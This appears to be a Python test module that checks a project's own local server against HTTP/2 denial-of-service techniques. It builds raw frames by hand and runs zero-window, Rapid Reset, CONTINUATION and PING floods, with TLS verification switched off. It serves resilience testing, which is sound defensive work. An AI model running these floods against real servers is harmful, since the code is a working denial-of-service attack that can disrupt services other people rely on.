"""HTTP/2 connections with hand-made frames."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import struct
import time
from collections.abc import Callable

from tools.hostile.case import case
from tools.hostile.costly import MAPS, with_maps
from tools.hostile.target import MALLORY, Target

HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def literal(name: str, value: str) -> bytes:
    parts = (name.encode(), value.encode())
    return b"\0" + b"".join(bytes([len(part)]) + part for part in parts)


def request(path: str) -> bytes:
    pairs = ((":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "localhost"))
    return b"".join(literal(*pair) for pair in (*pairs, ("authorization", f"Bearer {MALLORY}")))


async def connected(target: Target, settings: bytes = b"") -> Stream:
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    stream = await asyncio.open_connection("127.0.0.1", target.port, ssl=context)
    stream[1].write(PREFACE + frame(SETTINGS, 0, 0, settings))
    return stream


async def flood(target: Target, piece: Callable[[int], bytes], seconds: float) -> int:
    """Send pieces on one connection until it is closed; return how many."""
    reader, writer = await connected(target)
    closed = asyncio.create_task(_until_closed(reader))
    until, sent = time.perf_counter() + seconds, 0
    try:
        while time.perf_counter() < until and not closed.done():
            writer.write(piece(sent))
            await writer.drain()
            sent += 1
            await asyncio.sleep(0)
    except OSError:
        pass
    finally:
        writer.transport.abort()
        closed.cancel()
    return sent


async def _until_closed(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


@case("20 HTTP/2 connections without a window, 100 LISTs on each", within=30, memory_mb=400)
async def windowless(target: Target) -> str:
    await with_maps(target)
    streams = [await connected(target, struct.pack(">HI", 4, 0)) for _ in range(20)]
    head = request(f"{MAPS}?limit=501")
    for _, writer in streams:
        for number in range(1, 200, 2):
            writer.write(frame(HEADERS, END_STREAM | END_HEADERS, number, head))
    worst = 0.0
    for _ in range(20):
        answer = await target.send("GET", "/readyz", user="")
        target.expect(answer.status == 200, answer)
        worst = max(worst, answer.seconds)
        await asyncio.sleep(0.2)
    for _, writer in streams:
        writer.transport.abort()
    target.expect(worst < 1, f"/readyz took {worst:.2f} s")
    return f"/readyz within {worst * 1000:.0f} ms"


@case("requests that are reset at once, for 5 s", within=20)
async def rapid_reset(target: Target) -> str:
    head = request(f"{MAPS}?limit=500")

    def piece(sent: int) -> bytes:
        numbers = range(sent * 100 + 1, sent * 100 + 101, 2)
        reset = struct.pack(">I", 8)
        return b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, n, head) + frame(RESET, 0, n, reset) for n in numbers
        )

    return f"{await flood(target, piece, 5) * 50:,} requests"


@case("an HTTP/2 head that never ends, for 3 s", within=20)
async def continuation(target: Target) -> str:
    begin = frame(HEADERS, END_STREAM, 1, request(MAPS))
    more = frame(CONTINUATION, 0, 1, literal("x-a", "b" * 100) * 100)
    return f"{await flood(target, lambda sent: more if sent else begin, 3):,} frames"


@case("HTTP/2 pings for 3 s", within=20)
async def pings(target: Target) -> str:
    many = frame(PING, 0, 0, bytes(8)) * 100
    return f"{await flood(target, lambda _: many, 3) * 100:,} pings"
